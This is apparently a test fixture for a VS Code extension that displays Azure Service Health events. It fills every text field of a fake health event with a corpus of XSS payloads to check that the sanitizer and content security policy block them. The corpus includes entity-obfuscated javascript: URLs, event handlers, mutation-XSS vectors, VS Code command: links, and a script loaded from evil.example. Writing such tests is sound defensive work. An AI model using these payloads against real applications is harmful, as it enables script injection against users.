// A health event whose every vendor-supplied text carries script-injection attempts. If any
// payload ever runs it sets `window.__xss`, renames the document and prints XSS_MARKER, which the
// browser probe and the assertions look for. No `vscode` import.
import type { HealthEvent } from '../../src/core/model/schemas';
import type { GeneratedEvent } from '../../src/core/sample';
import { XSS_MARKER } from './probeProtocol';

/** What a payload does if it runs. */
export const TRAP = `window.__xss=(window.__xss||0)+1;document.title='pwned';try{top.__xss=1}catch(e){};console.log('${XSS_MARKER}')`;

/** Visible text of the description: the probe waits for it to know the view has rendered. */
export const MARKER_TEXT = 'XSS-CORPUS-RENDERED';

/** Injection attempts; the sanitizer and the CSP must each defeat all of them. */
export const ATTACKS: readonly string[] = [
  `<script>${TRAP}</script>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<img src=x onerror="${TRAP}">`,
  `<img src=x onerror=${TRAP.replace(/ /g, '')}>`,
  `<a href="javascript:${TRAP}">js link</a>`,
  `<a href="command:workbench.action.quit">quit command</a>`,
  `<a href="command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22rm%22%7D">terminal command</a>`,
  `<svg onload="${TRAP}"><circle r="1"/></svg>`,
  `<svg><script>${TRAP}</script></svg>`,
  `<style>body{background:url(javascript:${TRAP})}</style>`,
  `<iframe src="javascript:${TRAP}"></iframe>`,
  `<iframe srcdoc="<script>${TRAP}</script>"></iframe>`,
  `<a href="https://ok.example/">ok</a>`,
  `<a href="https://ok.example/" onclick="${TRAP}" onmouseover="${TRAP}">ok with handlers</a>`,
  // Entity- and whitespace-obfuscated schemes.
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${TRAP}">decimal entities</a>`,
  `<a href="&#x6A;avascript&colon;${TRAP}">hex entity and named colon</a>`,
  `<a href="jav&#x09;ascript:${TRAP}">tab entity</a>`,
  `<a href="jav\nascript:${TRAP}">newline</a>`,
  `<a href=" \u0001javascript:${TRAP}">leading control character</a>`,
  `<a href="JaVaScRiPt:${TRAP}">mixed case</a>`,
  `<a href="vbscript:msgbox(1)">vbscript</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data url</a>`,
  `<a href="vscode://vscode.git/clone?url=https://evil.example">vscode uri</a>`,
  `<a href="http://plain.example/">plain http</a>`,
  `<a href="//evil.example/">protocol relative</a>`,
  `<a href="https://user:pass@evil.example/">credentials in url</a>`,
  // Other script vectors.
  `<details open ontoggle="${TRAP}"><summary>toggle</summary></details>`,
  `<body onload="${TRAP}">`,
  `<form action="javascript:${TRAP}"><button formaction="javascript:${TRAP}">submit</button></form>`,
  `<object data="javascript:${TRAP}"></object><embed src="javascript:${TRAP}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${TRAP}">`,
  `<base href="javascript:${TRAP}//">`,
  `<div style="background:url(javascript:${TRAP})">styled div</div>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${TRAP}"></style></mglyph></table></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${TRAP.replace(/ /g, '')}>"></p></noscript>`,
  `<!--<img src=x onerror="${TRAP}">-->`,
  `<template><img src=x onerror="${TRAP}"></template>`,
  `<img src="x" onerror="${TRAP}"`,
];

export const CORPUS = `<p>${MARKER_TEXT}</p>${ATTACKS.join('\n')}`;

export const MALICIOUS_TRACKING_ID = 'XSS0-T0K';
export const MALICIOUS_SUBSCRIPTION_ID = '6f1c2a55-1e0a-4a6e-9d2b-5a1e0c0ffee0';

export function maliciousEvent(now = Date.now()): GeneratedEvent {
  const iso = (ms: number): string => new Date(ms).toISOString().replace(/\.\d{3}Z$/, 'Z');
  const event: HealthEvent = {
    id: `/subscriptions/${MALICIOUS_SUBSCRIPTION_ID}/providers/Microsoft.ResourceHealth/events/${MALICIOUS_TRACKING_ID}`,
    name: MALICIOUS_TRACKING_ID,
    type: '/providers/Microsoft.ResourceHealth/events',
    properties: {
      eventType: 'ServiceIssue',
      eventSource: 'ServiceHealth',
      status: 'Active',
      title: `<img src=x onerror="${TRAP}">Malicious <b>title</b><script>${TRAP}</script>`,
      header: `<img src=x onerror="${TRAP}">Header<svg onload="${TRAP}">`,
      summary: CORPUS,
      description: CORPUS,
      level: 'Warning',
      eventLevel: 'Warning',
      impactStartTime: iso(now - 3_600_000),
      lastUpdateTime: iso(now - 60_000),
      isEventSensitive: false,
      eventTags: ['Action Recommended', `<img src=x onerror="${TRAP}">`],
      article: { articleContent: CORPUS },
      additionalInformation: { message: CORPUS },
      recommendedActions: {
        message: `<a href="javascript:${TRAP}">Do this</a>`,
        actions: [
          { groupId: 1, actionText: CORPUS },
          { groupId: 2, actionText: `<a href="command:workbench.action.quit">quit</a> then <a href="https://ok.example/">ok</a>` },
        ],
      },
      faqs: [
        { question: `<img src=x onerror="${TRAP}">Why?`, answer: CORPUS },
        { question: 'Second', answer: `<iframe src="https://evil.example/"></iframe><a href="https://ok.example/">ok</a>` },
      ],
      links: [
        { type: 'Hyperlink', displayText: { value: `<img src=x onerror="${TRAP}">js link` }, parameters: { url: `javascript:${TRAP}` } },
        { type: 'Hyperlink', displayText: { value: 'command link' }, parameters: { url: 'command:workbench.action.quit' } },
        { type: 'Button', displayText: { value: 'data button' }, parameters: { url: 'data:text/html,<script>alert(1)</script>' } },
        { type: 'Hyperlink', displayText: { value: 'good link' }, parameters: { url: 'https://ok.example/link' } },
        { type: 'Button', displayText: { value: 'blade "><script>' }, extensionName: `"><img src=x onerror="${TRAP}">`, bladeName: 'javascript:alert(1)' },
      ],
      impact: [
        {
          impactedService: `<img src=x onerror="${TRAP}">Virtual Machines`,
          impactedRegions: [
            {
              impactedRegion: `<svg onload="${TRAP}">East US`,
              status: 'Active',
              lastUpdateTime: iso(now - 60_000),
              updates: [
                { summary: CORPUS, updateDateTime: iso(now - 60_000), eventTags: [`<script>${TRAP}</script>`] },
                { summary: `<a href="javascript:${TRAP}">plain</a> update`, updateDateTime: iso(now - 120_000) },
              ],
            },
          ],
        },
      ],
    },
  };
  return { event, subscriptionIds: [MALICIOUS_SUBSCRIPTION_ID] };
}
